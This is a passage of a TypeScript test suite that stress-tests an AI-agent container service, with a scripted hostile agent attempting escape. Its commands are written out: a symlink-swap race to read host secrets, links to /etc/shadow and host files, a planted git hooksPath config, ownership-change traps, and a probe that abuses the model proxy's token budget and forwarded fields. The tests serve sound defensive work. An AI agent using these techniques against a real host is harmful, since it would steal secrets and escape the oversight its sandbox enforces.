      // secret. A host that checks each part of a path and then opens it by name reads the host file whenever a flip
      // falls between the check and the open (a few percent of tries: hence many files and twenty seconds of polls).
      const flipper = [
        "const fs = require('fs');",
        "const folder = '.service/implement', real = '.service/implement.real', link = '.service/implement.link';",
        'const end = Date.now() + 20000;',
        'let flips = 0;',
        'while (Date.now() < end) { fs.renameSync(folder, real); fs.renameSync(link, folder); fs.renameSync(folder, link); fs.renameSync(real, folder); flips += 1; }',
        "console.log('flips ' + flips);",
      ].join('\n');
      scriptAgent(hostile(
        `printf 'hello, race\\n' > hello.txt`,
        'mkdir -p .service/implement',
        `for i in $(seq 1 ${RACE_CYCLES}); do printf 'not a cycle yet' > .service/implement/review_cycle_$i.json; done`,
        `ln -sfn ${sq(join(secretDir, 'implement'))} .service/implement.link`,
        `node -e ${sq(flipper)}`,
      ));
      const run = await runStation(taskSpec(), input(key), { recordPolledFiles: 'log' });
      expectPlanted(1);
      expect(toolOutputs()[0], 'the folder flipped while the host polled').toMatch(/flips [1-9]/);
      expectSettled(run, 240);
      expectSecretNowhere(run, HOST_SECRET);
    }, 360_000);

    it('does not read host files through links the agent put in place of its result, transcript and review cycle', async () => {
      const key = 'RUN-1';
      model.reset();
      model.script(
        { tool_call: { name: 'write_file', arguments: JSON.stringify({ path: '.service/notes.md', content: 'notes\n' }) } },
        {
          tool_call: {
            name: 'run_command', arguments: JSON.stringify({
              command: hostile(
                `printf 'hello, run folder\\n' > hello.txt`,
                // The same path inside the container, so the agent's own writes through the links land there.
                `mkdir -p ${sq(dirname(secretFile))}`,
                'mkdir -p .service/implement',
                `ln -sfn ${sq(secretFile)} .service/implement/review_cycle_1.json`,
                `ln -sfn ${sq(secretFile)} /run/service/transcript.jsonl`,
                `ln -sfn ${sq(secretFile)} /run/service/result.json`,
              ),
            }),
          },
        },
        { content: 'Done.' },
      );
      const run = await runStation(taskSpec(['.service/notes.md']), input(key), { recordPolledFiles: 'log' });
      expect(toolOutputs().at(-1)).toContain('PLANTED');
      expectSettled(run, 240);
      expectSecretNowhere(run, HOST_SECRET);
      if (run.result) await push(run, key);
      expectAbsent(HOST_SECRET, { 'the pushed commits': await pushedHistory(key) }, 'the content of a host file the agent linked to reached the source host in');
    }, 360_000);
  });

  describe('links are judged by where they resolve, and a workspace the host cannot take is a block (issue 41)', () => {
    const up = (levels: number) => Array.from({ length: levels }, () => '..').join('/');
    const deep = Array.from({ length: 20 }, (_, index) => `d${index + 1}`).join('/');

    it('pushes no link that leads out of a clone: the 21-level chain r and esc through it', async () => {
      const key = 'CHAIN-1';
      scriptAgent(hostile(
        `printf 'hello, chain\\n' > hello.txt`,
        `mkdir -p ${deep}`,
        // r climbs the twenty folders back to the root; esc's text stays inside, but through r it climbs past the root.
        `ln -s ${up(20)} ${deep}/r`,
        `ln -s r/${up(20)}/etc/shadow ${deep}/esc`,
        `ln -s ${up(21)} ${deep}/r21`,
        `readlink -f ${deep}/esc`,
      ));
      const run = await runStation(taskSpec(), input(key));
      expectPlanted(1);
      expect(toolOutputs()[0], 'esc resolves to /etc/shadow inside the container').toContain('/etc/shadow');
      expectSettled(run, 240);
      const refused = ((run.result?.data as { refused?: Array<{ path: string }> } | undefined)?.refused ?? []).map((entry) => entry.path).sort();
      expect(refused).toEqual([`${deep}/esc`, `${deep}/r21`]);
      const pushed = await push(run, key);
      await expectChangePushed(run, pushed, key, 'hello.txt', 'hello, chain\n');
      const links = (await pushedTree(key)).filter((entry) => entry.mode === '120000').map((entry) => entry.path);
      expect(links, 'the links pushed').toEqual([`${deep}/r`]);
      // What anyone who clones the branch gets: every link resolves inside the clone.
      const clone = mkdtempSync(join(workDir, 'clone-'));
      execFileSync('git', ['clone', '--quiet', '--branch', branchOf(key), bare(), clone]);
      const found = execFileSync('find', [clone, '-path', join(clone, '.git'), '-prune', '-o', '-type', 'l', '-print'], { encoding: 'utf8' }).split('\n').filter(Boolean);
      expect(found.length, 'links in the clone').toBeGreaterThan(0);
      const leaving = found.filter((path) => {
        const resolved = execFileSync('readlink', ['-m', path], { encoding: 'utf8' }).trim();
        return resolved !== clone && !resolved.startsWith(`${clone}/`);
      });
      expect(leaving, 'links of the pushed branch that lead out of a clone').toEqual([]);
    }, 360_000);

    const odd: Array<{ key: string; what: string; plant: string[]; names: string }> = [
      { key: 'ODD-1', what: 'a file named .git.', plant: [`printf '[core]\\n' > .git.`], names: '".git."' },
      { key: 'ODD-2', what: 'GIT~1/config', plant: ['mkdir GIT~1', `printf '[core]\\n\\thooksPath = /tmp\\n' > GIT~1/config`], names: '"GIT~1"' },
      {
        key: 'ODD-3', what: 'a tree deeper than PATH_MAX',
        plant: [`for i in $(seq 1 3); do mkdir -p ${Array.from({ length: 10 }, () => 'd'.repeat(200)).join('/')}; cd ${Array.from({ length: 10 }, () => 'd'.repeat(200)).join('/')}; done`, 'printf bottom > bottom.txt'],
        names: 'longer than 1024 bytes',
      },
    ];
    for (const { key, what, plant, names } of odd) {
      it(`ends the station as workspace_refused after one agent run for ${what}, naming it`, async () => {
        scriptAgent(hostile(`printf 'hello, odd names\\n' > hello.txt`, ...plant));
        const run = await runStation(taskSpec(), input(key));
        expectPlanted(1);
        expectSettled(run, 240);
        // One agent run: its tool call and its last answer; Temporal does not retry a non-retryable failure.
        expect(model.requests, 'model requests of the agent').toHaveLength(2);
        expect(run.error?.type).toBe(STATION_FAILURE_TYPE);
        expect((run.error as { nonRetryable?: boolean } | undefined)?.nonRetryable, 'the failure may not be retried').toBe(true);
        const details = run.error?.details?.[0] as StationFailureDetails | undefined;
        expect(details?.code).toBe('workspace_refused');
        expect(details?.message).toContain(names);
        expect(details?.recovery).toContain('service:retry');
        expect(await gitIn(bare(), ['rev-parse', '--verify', '--quiet', `refs/heads/${branchOf(key)}`]).then(() => 'pushed', () => 'absent'), 'the ticket branch').toBe('absent');
        expectNothingRanOnTheHost();
      }, 360_000);
    }
  });

  it('changes the ownership of no host file through a link, and keeps a relative link in the repository a link', async () => {
    const key = 'OWN-1';
    const owned = join(hostDir, 'owned');
    mkdirSync(owned, { mode: 0o755 });
    const targets = {
      committedFile: join(owned, 'root-file.txt'), committedDir: join(owned, 'root-dir'),
      agentFile: join(owned, 'root-file-2.txt'), agentDir: join(owned, 'root-dir-2'),
    };
    writeFileSync(targets.committedFile, 'root owned\n', { mode: 0o644 });
    writeFileSync(targets.agentFile, 'root owned too\n', { mode: 0o600 });
    mkdirSync(targets.committedDir, { mode: 0o755 });
    mkdirSync(targets.agentDir, { mode: 0o700 });
    const ownership = () => Object.fromEntries([owned, ...Object.values(targets)].map((path) => {
      const stat = lstatSync(path);
      return [path, `uid ${stat.uid} gid ${stat.gid} mode ${(stat.mode & 0o7777).toString(8)}`];
    }));
    const before = ownership();
    /** Host files whose owner, group or mode changed, with how. */
    const changed = () => Object.entries(ownership()).filter(([path, now]) => now !== before[path]).map(([path, now]) => `${path}: ${before[path]} -> ${now}`);
    await seed(LINKS_REPO, [
      { path: 'notes.txt', content: 'notes v1\n' },
      { path: 'docs/readme-link', link: '../README.md' },
      { path: 'host-file-link', link: targets.committedFile },
      { path: 'host-dir-link', link: targets.committedDir },
    ]);
    scriptAgent(hostile(
      `printf 'notes v2\\n' > notes.txt`,
      // The committed links become a file and a folder: a host that wrote through them would write into host files.
      `rm host-file-link && printf 'overwritten by the agent\\n' > host-file-link`,
      `rm host-dir-link && mkdir host-dir-link && printf 'planted\\n' > host-dir-link/planted.txt`,
      `ln -sfn ${sq(targets.agentFile)} agent-file-link`,
      `ln -sfn ${sq(targets.agentDir)} agent-dir-link`,
      `mkdir -p .service && ln -sfn ${sq(targets.agentFile)} .service/owned-link`,
    ));
    const run = await runStation(taskSpec(), input(key, { params: { repository: LINKS_REPO } }));
    expectPlanted(1);
    expectSettled(run, 240);
    expect.soft(changed(), 'host files the repository and the agent linked to, changed by the station').toEqual([]);
    expect.soft(readFileSync(targets.committedFile, 'utf8'), 'the host file a committed link pointed at').toBe('root owned\n');
    expect.soft(readdirSync(targets.committedDir), 'the host folder a committed link pointed at').toEqual([]);
    const pushed = await push(run, key);
    expect.soft(changed(), 'host files the repository and the agent linked to, changed by the station or the push').toEqual([]);
    await expectChangePushed(run, pushed, key, 'notes.txt', 'notes v2\n', LINKS_REPO);
    const link = (await pushedTree(key, LINKS_REPO)).find((entry) => entry.path === 'docs/readme-link');
    expect(link?.mode, 'docs/readme-link in the pushed commit').toBe('120000');
    expect(await gitIn(bare(LINKS_REPO), ['cat-file', '-p', link!.sha])).toBe('../README.md');
  }, 360_000);

  it('model proxy: reserves the token budget for parallel calls, forwards no unknown field, refuses a 64 MiB body, 500 images and a file part', async () => {
    const key = 'PROXY-1';
    const budget = 3000;
    const agentReplies: ScriptedReply[] = [];
    const usage = { prompt_tokens: 10, completion_tokens: 10 };
    const firstText = (request: ChatCompletionRequest) => {
      const content = request.messages?.[0]?.content;
      if (typeof content === 'string') return content;
      // A request of parts: the text of its first text part (the image and file probes start with one).
      const first = Array.isArray(content) ? (content as Array<{ type?: string; text?: unknown }>).find((part) => part?.type === 'text') : undefined;
      return typeof first?.text === 'string' ? first.text : '';
    };
    const isProbe = (request: ChatCompletionRequest) => /^(PARALLEL|BIG|IMAGES|FILE)-PROBE/.test(firstText(request));
    // Calls from the probe answer slowly, so the ten of a batch are in flight together.
    const proxied = await startModelSimulator({
      respond: (request) => (isProbe(request) ? { content: 'probe answer', usage, delay_ms: 1500 } : agentReplies.shift()),
    });
    try {
      const probe = `
const http = require('http');
function post(body) {
  return new Promise((resolve) => {
    const data = Buffer.from(JSON.stringify(body));
    const req = http.request({ socketPath: '/run/service/model.sock', path: '/v1/chat/completions', method: 'POST', headers: { 'content-type': 'application/json', 'content-length': data.length } }, (res) => {
      res.resume();
      res.on('end', () => resolve(String(res.statusCode)));
      res.on('error', (e) => resolve('error ' + (e.code || e.message)));
    });
    req.on('error', (e) => resolve('error ' + (e.code || e.message)));
    req.end(data);
  });
}
const ask = (text, extra) => Object.assign({ model: 'agent-model', messages: [{ role: 'user', content: text }], max_tokens: 1000 }, extra);
(async () => {
  const a = await Promise.all(Array.from({ length: 10 }, (_, i) => post(ask('PARALLEL-PROBE-A ' + i, {}))));
  console.log('A ' + a.join(','));
  const b = await Promise.all(Array.from({ length: 10 }, (_, i) => post(ask('PARALLEL-PROBE-B ' + i, { n: 5, models: ['x'], route: 'fallback' }))));
  console.log('B ' + b.join(','));
  const big = await post({ model: 'agent-model', messages: [{ role: 'user', content: 'BIG-PROBE ' + 'x'.repeat(64 * 1024 * 1024) }], max_tokens: 10 });
  console.log('BIG ' + big);
  // The second round's image bill: 500 small images under a 3,000-token budget (a vendor charges hundreds of tokens
  // an image, whatever its bytes), and a file part naming a file of the operator's vendor account.
  const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
  const images = await post({ model: 'agent-model', max_tokens: 10, messages: [{ role: 'user', content: [{ type: 'text', text: 'IMAGES-PROBE' }].concat(Array.from({ length: 500 }, () => ({ type: 'image_url', image_url: { url: pixel } }))) }] });
  console.log('IMAGES ' + images);
  const file = await post({ model: 'agent-model', max_tokens: 10, messages: [{ role: 'user', content: [{ type: 'text', text: 'FILE-PROBE' }, { type: 'file', file: { file_id: 'file-operator-secret' } }] }] });
  console.log('FILE ' + file);
})();
`;
      agentReplies.push(
        { tool_call: { name: 'run_command', arguments: JSON.stringify({ command: `node -e "$(cat <<'EOF'\n${probe}\nEOF\n)"\necho PLANTED` }) }, usage },
        { content: 'Probed the proxy.', usage },
      );
      const run = await runStation(taskSpec(), input(key, { token_budget: budget }), { modelUrl: proxied.url });
      expectSettled(run, 240);
      // The probe's report, as the agent sent it back to the model.
      const report = toolOutputs(proxied.requests.filter((request) => !isProbe(request))).join('\n');
      expect(report, 'the probe inside the container').toContain('exit code 0');
      expect(report).toMatch(/^A .+$/m);
      expect(report).toMatch(/^B .+$/m);
      const big = /^BIG (.*)$/m.exec(report)?.[1];
      expect.soft(big, 'the answer to a 64 MiB request body').toMatch(/^(4\d\d|error)/);
      expect.soft(/^IMAGES (.*)$/m.exec(report)?.[1], 'the answer to 500 images').toMatch(/^4\d\d$/);
      expect.soft(/^FILE (.*)$/m.exec(report)?.[1], 'the answer to a file part').toMatch(/^4\d\d$/);

      const received = proxied.received.map((r) => r.body);
      const granted = (prefix: string) => received.filter((body) => firstText(body).startsWith(prefix))
        .reduce((sum, body) => sum + (typeof body.max_tokens === 'number' ? body.max_tokens : Number.POSITIVE_INFINITY), 0);
      expect.soft(granted('PARALLEL-PROBE-A'), `max_tokens granted to ten parallel calls of ${budget}-token budget (proxy answers: ${/^A (.*)$/m.exec(report)?.[1]})`).toBeLessThanOrEqual(budget);
      expect.soft(granted('PARALLEL-PROBE-B'), `max_tokens granted to ten parallel calls with extra fields (proxy answers: ${/^B (.*)$/m.exec(report)?.[1]})`).toBeLessThanOrEqual(budget);
      const smuggled = received.filter((body) => 'models' in body || 'route' in body || (body.n !== undefined && body.n !== 1))
        .map((body) => `${firstText(body).slice(0, 20)}: ${JSON.stringify({ n: body.n, models: body.models, route: body.route })}`);
      expect.soft(smuggled, 'fields the proxy forwarded upstream that the container must not choose').toEqual([]);
      const billedOtherwise = received.filter((body) => /"type":"(image_url|file|input_audio)"/.test(JSON.stringify(body.messages ?? []))).map((body) => firstText(body).slice(0, 20));
      expect.soft(billedOtherwise, 'requests with image, file or audio parts that reached the model upstream').toEqual([]);
      const oversized = received.map((body) => JSON.stringify(body).length).filter((length) => length > 8 * MiB);
      expect.soft(oversized, 'request bodies over 8 MiB that reached the model upstream').toEqual([]);
    } finally {
      await proxied.close();
    }
  }, 360_000);

  it('returns a result under its budget, counting what it dropped, when the agent writes 1,000 review cycle files of 8 KB and 1,500 findings', async () => {
    const key = 'FLOOD-1';
    const recordDir = join(workDir, 'records-flood-1');
    const cycles = 1_000;
    const cycle = (n: string) => `{"cycle":${n},"max_cycles":${cycles},"verdict":"REJECTED","feedback":"%s","skill":"local_review","elapsed_seconds":1,"timestamp":"2026-11-28T00:00:00Z"}`;
    const findings = `node -e ${sq("require('fs').writeFileSync('.service/local_review.json', JSON.stringify({ verdict: 'changes_needed', findings: Array.from({ length: 1500 }, (_, i) => ({ problem: 'p' + i })) }))")}`;
    scriptAgent(hostile(
      'mkdir -p .service/local_review',
      'feedback=$(head -c 7800 /dev/zero | tr "\\0" x)',
      `for i in $(seq 1 ${cycles}); do printf ${sq(cycle('%d'))} "$i" "$feedback" > .service/local_review/review_cycle_$i.json; done`,
      findings,
      'ls .service/local_review | wc -l; du -sk .service/local_review; wc -c < .service/local_review.json',
    ));
    // The real local_review station: the container family, then the findings read from the agent's file.
    const config = {
      container: {
        image: 'service-dev:latest', memoryLimit: '1g', cpuLimit: 1, timeoutSeconds: 120, pidsLimit: 512, egressRepos: [], workDir,
        podmanUser: 'service-podman', agentMaxSteps: 20, agentCommandTimeoutSeconds: 60,
      },
      autoReview: { maxRetries: 3, pollIntervalSeconds: 0.5, recordPolledFiles: 'copy' as const },
    };
    const review = createImplementationStations({
      config, logger, account: () => resolvePodmanAccount(), remotes: remotes(), recordDir,
      resolveModel: async () => ({ key: 'local_review', target: { connection: 'sim', model: 'agent-model' }, connection: { ...connection, base_url: model.url }, source: 'deployment_default' }) as never,
    }).local_review!;
    const started = Date.now();
    const settled = await review(input(key, { node: 'local_review', station: 'local_review', params: {}, outputs: { next_repository: { repository: REPO } } }))
      .then((result) => ({ result, error: undefined }), (error: unknown) => ({ result: undefined, error: error as StationError }));
    const ms = Date.now() - started;
    expectPlanted(1);
    expect(toolOutputs()[0], 'what the agent wrote').toMatch(new RegExp(`^${cycles}$`, 'm'));
    expect(settled.error?.message, 'the station failed').toBeUndefined();
    const result = settled.result!;
    const size = Buffer.byteLength(JSON.stringify(result));
    const data = result.data as { review: { cycles: unknown[]; cycles_dropped?: number }; findings: unknown[]; findings_dropped?: number; trimmed?: unknown };
    expect.soft(size, `the serialized station result (${size} bytes, ${ms} ms)`).toBeLessThan(STATION_RESULT_BUDGET_BYTES);
    expect.soft(result.outcome).toBe('changes_needed');
    expect.soft({ cycles: data.review.cycles.length, cycles_dropped: data.review.cycles_dropped }).toEqual({ cycles: 20, cycles_dropped: 980 });
    expect.soft({ findings: data.findings.length, findings_dropped: data.findings_dropped }).toEqual({ findings: 30, findings_dropped: 1_470 });
    expect.soft(data.trimmed, 'parts the budget guard had to empty').toBeUndefined();
    const records = readdirSync(join(recordDir, key, 'local_review-1', 'local_review'));
    expect.soft(records, 'review cycles copied into the records').toHaveLength(20);
  }, 360_000);
});
